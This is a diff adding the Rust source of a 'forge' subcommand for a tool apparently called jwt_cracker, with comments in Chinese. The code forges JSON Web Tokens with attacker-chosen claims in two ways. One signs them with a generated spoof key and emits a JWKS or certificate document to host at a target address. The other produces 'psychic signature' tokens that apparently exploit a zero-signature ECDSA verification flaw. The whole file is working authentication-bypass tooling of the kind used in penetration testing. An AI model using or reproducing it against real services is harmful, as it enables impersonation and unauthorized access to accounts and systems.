@@ -0,0 +1,92 @@
+//! forge 子命令
+
+use crate::{EXIT_FOUND, OutputFormat, parse_json};
+use jsonwebtoken::Algorithm;
+use jwt_cracker::utils::forge::{
+    KeyDelivery, SignatureEncoding, SpoofKey, algorithm_name, forge_psychic_signature,
+};
+use jwt_cracker::utils::jwt::decode_json_segment;
+use jwt_cracker::{Error, Result, split_token};
+use serde_json::{Value, json};
+use std::path::Path;
+use std::str::FromStr;
+
+/// forge 子命令中两种伪造方式共用的参数
+pub(crate) struct ForgeArgs<'a> {
+    pub(crate) token: Option<&'a str>,
+    pub(crate) payload: Option<&'a str>,
+    pub(crate) alg: &'a str,
+}
+
+impl ForgeArgs<'_> {
+    /// 令牌中的Header和Payload，`--payload` 优先
+    fn claims(&self) -> Result<(Value, Value)> {
+        let (header, payload) = match self.token {
+            Some(token) => {
+                let parts = split_token(token)?;
+                (
+                    decode_json_segment("header", parts.header)?,
+                    Some(decode_json_segment("payload", parts.payload)?),
+                )
+            }
+            None => (Value::Object(Default::default()), None),
+        };
+        let payload = match (self.payload, payload) {
+            (Some(text), _) => parse_json("payload", text)?,
+            (None, Some(payload)) => payload,
+            (None, None) => Value::Object(Default::default()),
+        };
+        Ok((header, payload))
+    }
+}
+
+pub(crate) fn run_forge(
+    forge: &ForgeArgs,
+    delivery: &KeyDelivery,
+    key_out: Option<&Path>,
+    output: OutputFormat,
+) -> Result<i32> {
+    let algorithm = Algorithm::from_str(&forge.alg.to_ascii_uppercase())
+        .map_err(|_| Error::UnsupportedAlgorithm(forge.alg.to_string()))?;
+    let (header, payload) = forge.claims()?;
+    let key = SpoofKey::generate(algorithm)?;
+    let token = key.sign(&header, &payload, delivery)?;
+    let document = key.hosted_document(delivery);
+    if let (Some(path), Some(document)) = (key_out, &document) {
+        std::fs::write(path, document).map_err(|source| Error::Io {
+            path: path.to_path_buf(),
+            source,
+        })?;
+    }
+    match output {
+        OutputFormat::Text => {
+            println!("{}", token);
+            if let (None, Some(document)) = (key_out, &document) {
+                eprintln!("需要部署到目标地址的文档:\n{}", document);
+            }
+        }
+        _ => output.print(&json!({
+            "token": token,
+            "alg": algorithm_name(algorithm),
+            "kid": key.kid(),
+            "jwks": key.jwks(),
+            "certificate": key.certificate_pem(),
+        })),
+    }
+    Ok(EXIT_FOUND)
+}
+
+pub(crate) fn run_forge_psychic(
+    forge: &ForgeArgs,
+    encoding: SignatureEncoding,
+    output: OutputFormat,
+) -> Result<i32> {
+    let (header, payload) = forge.claims()?;
+    let alg = forge.alg.to_ascii_uppercase();
+    let token = forge_psychic_signature(&header, &payload, &alg, encoding)?;
+    match output {
+        OutputFormat::Text => println!("{}", token),
+        _ => output.print(&json!({ "token": token, "alg": alg })),
+    }
+    Ok(EXIT_FOUND)
+}